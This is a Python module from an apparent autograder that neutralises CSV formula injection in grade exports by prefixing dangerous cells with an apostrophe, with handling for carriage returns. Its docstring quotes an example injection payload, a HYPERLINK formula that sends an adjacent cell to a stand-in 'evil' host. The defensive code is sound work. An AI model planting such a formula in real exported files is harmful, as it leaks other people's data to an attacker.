"""CSV cells a spreadsheet cannot run: every CSV the grader writes goes through here.

Why: the instructor opens grades.csv, problems.csv, regrade.csv and the LMS files in Excel,
LibreOffice or Google Sheets, and those read a cell that starts with `=`, `+`, `-` or `@` as a
formula (and a leading tab or carriage return can hide one). Much of what the grader writes is
student-controlled text: an exception's type name and message (a student can raise a class named
`=HYPERLINK("http://evil/?"&A2, "click")`), a file name quoted in a problem, a roster value. Such a
cell would be a live formula on the instructor's machine: it can send the next cells (other
students' grades) to a website, or run a command through DDE in old Excel (CSV injection, CWE-1236).

The rule is OWASP's (https://owasp.org/www-community/attacks/CSV_Injection): a text cell that starts
with one of those characters gets a leading apostrophe, which spreadsheets show as text and do not
display. The csv module already quotes commas, quotes and newlines. A number the grader computed
itself stays a number: an int or float is written as it is, and so is text that is exactly a plain
decimal number (`-0.5`, the `change` of a regrade, a `:g`-formatted score), which no spreadsheet
reads as a formula. Everything else that starts with a dangerous character is neutralised, even if
it came from the grader: a sentence never needs to start with `=`.

The writer also quotes a row with a carriage return inside a cell: Python's csv (3.11) does not
quote a bare `\r` when the line terminator is `\n`, and a reader then splits the row there.
"""
import csv
import re

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?")


def cell(value):
    """value as a CSV cell a spreadsheet shows as text, never runs as a formula."""
    if value is None or isinstance(value, (int, float)):
        return value
    text = str(value)
    if text.startswith(DANGEROUS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


class Writer:
    """csv.writer whose every cell goes through `cell` first (same writerow / writerows)."""

    def __init__(self, fh, **kwargs):
        self._writer = csv.writer(fh, **kwargs)
        self._quoted = csv.writer(fh, **dict(kwargs, quoting=csv.QUOTE_ALL))

    def writerow(self, row):
        row = [cell(v) for v in row]
        if any(isinstance(v, str) and "\r" in v for v in row):
            return self._quoted.writerow(row)
        return self._writer.writerow(row)

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(fh, **kwargs):
    """csv.writer(fh, **kwargs) that neutralises formula cells."""
    return Writer(fh, **kwargs)
